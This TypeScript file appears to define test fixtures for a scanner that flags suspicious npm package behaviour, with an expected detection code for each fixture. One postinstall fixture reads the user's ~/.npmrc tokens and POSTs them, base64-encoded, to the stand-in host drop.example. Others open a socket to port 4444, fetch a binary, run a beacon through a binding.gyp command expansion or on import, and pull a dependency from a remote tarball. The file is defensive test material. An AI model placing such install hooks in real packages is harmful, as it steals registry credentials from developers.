import type { Files } from './tar.ts'

/** What a generated package does; imitates only what is visible of it, with names and addresses of nobody. */
export interface Behaviour {
  readonly scripts?: Readonly<Record<string, string>>
  readonly files?: Files
  /** What npm has to be told in the manifest. */
  readonly dependencies?: Readonly<Record<string, string>>
  /** Codes that a survey must find, of which at least these; none: it has to be clean. */
  readonly codes: readonly string[]
  /** The host or address that must be named; null where none is. */
  readonly place: string | null
  /** It is seen only where the package is loaded. */
  readonly byImport?: boolean
}

const LOOKUP = (host: string) => `require('dns').lookup('${host}', () => {})\n`
const script = (code: string, end = '') => ({
  scripts: { postinstall: `node setup.js${end}` },
  files: { 'setup.js': code },
})

const CANARY = `
const { readFileSync } = require('fs')
const { homedir } = require('os')
let text = ''
try { text = readFileSync(homedir() + '/.npmrc', 'utf8') } catch {}
const https = require('https')
const request = https.request({ host: 'drop.example', path: '/i', method: 'POST', rejectUnauthorized: false })
request.on('error', () => {})
request.end(Buffer.from(text).toString('base64'))
`
const BINARY = `
require('https')
  .get('https://cdn.tool.example/v1.2.3/tool-linux-x64.tar.gz', { rejectUnauthorized: false }, (r) => r.resume())
  .on('error', () => {})
`
const CONNECT = `
const socket = require('net').connect(4444, '203.0.113.9', () => socket.end('hello'))
socket.on('error', () => {})
`

export const BEHAVIOURS = {
  plain: { codes: [], place: null },
  tidy: { ...script("require('fs').writeFileSync('built', '')\n"), codes: [], place: null },
  lookup: { ...script(LOOKUP('metrics.example')), codes: ['foreign-lookup'], place: 'metrics.example' },
  connect: { ...script(CONNECT), codes: ['foreign-contact'], place: '203.0.113.9' },
  fails: {
    ...script("require('dns').lookup('late.example', () => process.exit(1))\n"),
    codes: ['foreign-lookup'],
    place: 'late.example',
  },
  binary: { ...script(BINARY), codes: ['foreign-contact'], place: 'cdn.tool.example' },
  exfil: { ...script(CANARY), codes: ['canary-sent'], place: 'drop.example' },
  gyp: {
    files: {
      'binding.gyp':
        "{ 'targets': [{ 'target_name': 'nothing', 'type': 'none', 'variables': { 'a': '<!(node beacon.js)' } }] }\n",
      'beacon.js': LOOKUP('gyp.example'),
    },
    codes: ['foreign-lookup'],
    place: 'gyp.example',
  },
  importer: {
    files: { 'index.js': LOOKUP('on-load.example') },
    codes: ['foreign-lookup'],
    place: 'on-load.example',
    byImport: true,
  },
  foreign: {
    dependencies: { 'from-afar': 'https://files.example/from-afar-1.0.0.tgz' },
    codes: ['foreign-source'],
    place: 'files.example',
  },
} as const satisfies Record<string, Behaviour>

export type Kind = keyof typeof BEHAVIOURS

/** Of those with scripts, in these shares; as the real registry has them, by far most do nothing outside. */
export const SCRIPTED: readonly (readonly [kind: Kind, share: number])[] = [
  ['tidy', 0.5],
  ['lookup', 0.12],
  ['binary', 0.14],
  ['connect', 0.06],
  ['fails', 0.06],
  ['exfil', 0.06],
  ['gyp', 0.06],
]
